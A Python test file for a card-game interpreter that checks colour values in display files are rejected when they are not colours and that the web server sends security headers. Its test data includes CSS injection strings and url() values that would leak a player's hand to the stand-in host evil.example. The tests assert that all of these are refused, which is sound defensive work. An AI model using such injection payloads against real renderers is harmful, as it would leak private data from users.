"""Robustness, third round (issue 30): the server, the display file, Dask, bots asked for by
files, names and moves from files. Each test names the item of the issue it guards."""

from __future__ import annotations

import pytest

from interpreter.engine.ruleset import load_ruleset
from interpreter.language.errors import GameRuleError, RulesetErrors
from interpreter.play.display import load_display

from .test_robustness import tiny


def _main(*argv):
    from interpreter.cli import main

    return main([str(a) for a in argv])


# ------------------------------------------------------------------ 4. colours of a display file
LEAK = "url(http://evil.example/?hand)"
DISPLAY = """\
colours:
  red: {ansi: "31", svg: "SVG"}
blocks:
  table:
    title: "The table"
    lines: ["{size(deck)} cards in the deck"]
    svg: {x: 10, y: 10, width: 300, height: 60, fill: "FILL"}
text:
  below: [table]
svg: {width: 400, height: 300, background: "BACKGROUND"}
private:
  lines: ["[red]{kinds(hand[viewer])}[/]"]
"""


def _display(**values: str) -> str:
    text = DISPLAY
    for key, default in (("SVG", "#cc0000"), ("FILL", "red"), ("BACKGROUND", "white")):
        text = text.replace(key, values.get(key.lower(), default))
    return text


def test_the_colours_of_a_display_file_are_colours(tmp_path):
    load_display(load_ruleset(tiny(tmp_path / "fine", display=_display())))
    load_display(load_ruleset(tiny(tmp_path / "names", display=_display(
        svg="RebeccaPurple", fill="#A0b1C2", background="transparent"))))
    lines = {"svg": 2, "fill": 7, "background": 10}
    for key, line in lines.items():
        for bad in (LEAK, "#12345", "red;background:url(x)", "expression(alert(1))"):
            folder = tiny(tmp_path / f"{key}-{len(bad)}", display=_display(**{key: bad}))
            with pytest.raises(RulesetErrors) as info:
                load_display(load_ruleset(folder))
            text = str(info.value)
            assert "is not a colour" in text and f"display.yaml:{line}:" in text, text
            assert "#rrggbb or a CSS colour name" in text


BOARD = """\
colours:
  red: {ansi: "31", svg: "#cc0000"}
board:
  width: 100
  height: 100
  BOARD_COLOURS
  items:
    - rect: {x: 0, y: 0, width: 10, height: 10}
      fill: 'FILL'
"""


def _board(fill: str, colours: str = "") -> str:
    return BOARD.replace("BOARD_COLOURS", colours).replace("FILL", fill)


def test_a_colour_of_the_board_is_a_colour_when_drawn(tmp_path):
    def drawn(fill, colours=""):
        folder = tiny(tmp_path / f"t{len(list(tmp_path.iterdir()))}",
                      display=_board(fill, colours))
        ruleset = load_ruleset(folder)
        game = ruleset.new_game(2, 1)
        return load_display(ruleset).to_svg(game, "P1")

    assert 'fill="#cc0000"' in drawn("red")
    assert 'fill="#00ff00"' in drawn('{"#00ff00"}')
    assert 'fill="#123456"' in drawn("mine", "colours: {mine: '#123456'}")
    assert 'fill="teal"' in drawn("teal")
    # a template that gives an address (with the viewer's hand in it) is refused, not drawn
    with pytest.raises(GameRuleError) as info:
        drawn("url(http://evil.example/?{kinds(hand[viewer])})")
    assert "is not a colour" in str(info.value) and "display.yaml:9:" in str(info.value)
    # a colour name of the board's own that is not a colour is refused when the file loads
    with pytest.raises(RulesetErrors) as caught:
        drawn("mine", f"colours: {{mine: '{LEAK}'}}")
    assert "the board's colour 'mine'" in str(caught.value)


def test_every_answer_of_the_server_carries_the_security_headers():
    pytest.importorskip("starlette")
    pytest.importorskip("uvicorn")
    httpx = pytest.importorskip("httpx")
    from tests.web_support import TUTORIAL, make_table, play_until, serving, token_of

    ruleset, game, history = play_until(TUTORIAL, 2, 1, lambda g, d: True)
    table = make_table(ruleset, game, history, {p: "human" for p in game.players})
    token = token_of(table, "P1")
    with serving(table) as base:
        answers = [httpx.get(f"{base}/play/{token}", timeout=10),
                   httpx.get(f"{base}/static/page.js", timeout=10),
                   httpx.get(f"{base}/api/{token}/state", timeout=10),
                   httpx.get(f"{base}/play/NOT-A-TOKEN", timeout=10),
                   httpx.get(f"{base}/api/{token}/state", timeout=10,
                             headers={"Host": "evil.example"})]
    assert [a.status_code for a in answers] == [200, 200, 200, 404, 403]
    for answer in answers:
        policy = answer.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy
        assert "script-src 'self'" in policy and "img-src 'self'" in policy
        assert answer.headers.get("referrer-policy") == "no-referrer"
        assert answer.headers.get("x-content-type-options") == "nosniff"
